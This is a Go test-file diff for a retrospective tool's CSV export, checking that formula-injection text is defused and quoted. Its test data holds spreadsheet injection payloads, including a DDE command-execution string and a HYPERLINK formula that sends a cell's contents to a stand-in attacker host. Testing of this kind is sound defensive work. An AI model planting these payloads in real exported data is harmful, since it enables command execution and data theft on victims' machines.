@@ -3,6 +3,7 @@ package export
 import (
 	"bytes"
 	"encoding/csv"
+	"io"
 	"slices"
 	"strings"
 	"testing"
@@ -103,6 +104,23 @@ func TestCSVDefusesFormulas(t *testing.T) {
 		`=HYPERLINK("x","y")`:  `'=HYPERLINK("x","y")`,
 		"2026-11-30":           "2026-11-30",
 		"Jörg, \"the\" tester": "Jörg, \"the\" tester",
+		// After a separator, where a spreadsheet splitting on it starts
+		// a cell.
+		`;=HYPERLINK("http://x","y")`: `;'=HYPERLINK("http://x","y")`,
+		"a,=cmd|' /C calc'!A0":        "a,'=cmd|' /C calc'!A0",
+		"a;+1":                        "a;'+1",
+		"a\t-1":                       "a\t'-1",
+		"one\n@SUM(A1)":               "one\n'@SUM(A1)",
+		"one\r\n=1":                   "one\r\n'=1",
+		"a,\t=1":                      "a,'\t'=1",
+		"a;\r+1":                      "a;'\r'+1",
+		// Spaces and double quotes before a trigger do not hide it.
+		"  =1":         "  '=1",
+		"a, -1":        "a, '-1",
+		`a;"=1"`:       `a;"'=1"`,
+		`" @x`:         `" '@x`,
+		"a - b, c = d": "a - b, c = d",
+		"x,y;z":        "x,y;z",
 	} {
 		if got := defuse(in); got != want {
 			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
@@ -120,6 +138,98 @@ func TestCSVDefusesFormulas(t *testing.T) {
 	}
 	if got[3][1] != "'+line one\nline two" || got[2][5] != "'-topic, with a comma" {
 		t.Errorf("the text does not read back: %q", got)
+	}
+}
+
+// csvTextColumn says which columns hold text, quoted in every row but the
+// header.
+var csvTextColumn = []bool{false, true, true, false, true, true, true}
+
+func TestCSVQuotesEveryTextCellAndDefusesFormulasInsideIt(t *testing.T) {
+	hostile := []string{
+		`;=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"a,=cmd|' /C calc'!A0",
+		"fine; -2+3",
+		"tab\t@SUM(1+1)*cmd|' /C calc'!A0",
+		"one\r\n+two\n=three",
+		`quote" ,"=1`,
+		"plain words",
+		"",
+	}
+	s := session.Fold(sessionID, retroOfFormat(session.Custom, []string{"Keep", "Drop"}, "Book the room"))
+	if len(s.Actions) < 4 {
+		t.Fatalf("the fixture has %d action items, want 4", len(s.Actions))
+	}
+	// Every text column of every row gets hostile text: the action, its
+	// owner, its topic (row 3's is a group's name) and its session.
+	s.GroupNames[s.Actions[1].Topic] = hostile[5]
+	for i := range s.Actions {
+		s.Actions[i].Text = hostile[i%len(hostile)]
+		s.Actions[i].Owner.Name = hostile[(i+1)%len(hostile)]
+		s.Actions[i].Session = hostile[(i+4)%len(hostile)]
+	}
+	out := mustCSV(t, s)
+
+	// Read back with encoding/csv, each text cell is the defused text, and
+	// starts at a double quote in the raw bytes.
+	lineStart := []int{0, 0} // byte offset of each line, counted from 1
+	for i := range len(out) {
+		if out[i] == '\n' {
+			lineStart = append(lineStart, i+1)
+		}
+	}
+	r := csv.NewReader(strings.NewReader(out))
+	r.FieldsPerRecord = len(csvHeader)
+	for row := 0; ; row++ {
+		rec, err := r.Read()
+		if err == io.EOF {
+			if row != len(s.Actions)+1 {
+				t.Fatalf("%d records for %d action items", row, len(s.Actions))
+			}
+			break
+		}
+		if err != nil {
+			t.Fatalf("%v in\n%s", err, out)
+		}
+		if row == 0 {
+			continue
+		}
+		a := s.Actions[row-1]
+		want := map[int]string{1: a.Text, 2: a.Owner.Name, 5: actionTopic(s, a), 6: a.Session}
+		for col, cell := range rec {
+			line, column := r.FieldPos(col)
+			quoted := out[lineStart[line]+column-1] == '"'
+			if quoted != csvTextColumn[col] {
+				t.Errorf("row %d, field %s: quoted is %v in the raw bytes", row, csvHeader[col], quoted)
+			}
+			// encoding/csv reads a CR LF inside quotes as a line feed.
+			if w, ok := want[col]; ok && cell != strings.ReplaceAll(defuse(w), "\r\n", "\n") {
+				t.Errorf("row %d, field %s reads back as %q, want %q", row, csvHeader[col], cell, w)
+			}
+			if csvTextColumn[col] {
+				checkNoFormulaStart(t, cell)
+			}
+		}
+	}
+	// A spreadsheet that splits on another separator, or ignores the
+	// quotes, finds no formula either.
+	checkNoFormulaStart(t, out)
+}
+
+// checkNoFormulaStart checks that neither the text nor any part of it
+// after a separator, spaces and double quotes skipped, starts with a
+// character that makes a formula.
+func checkNoFormulaStart(t *testing.T, text string) {
+	t.Helper()
+	parts := strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) })
+	if text != "" && strings.ContainsRune(",;\t\r\n", rune(text[0])) {
+		parts = append(parts, "") // a separator first leaves nothing before it
+	}
+	for _, p := range parts {
+		p = strings.TrimLeft(p, ` "`)
+		if p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
+			t.Errorf("%q starts a cell with a formula in %q", p, text)
+		}
 	}
 }
 
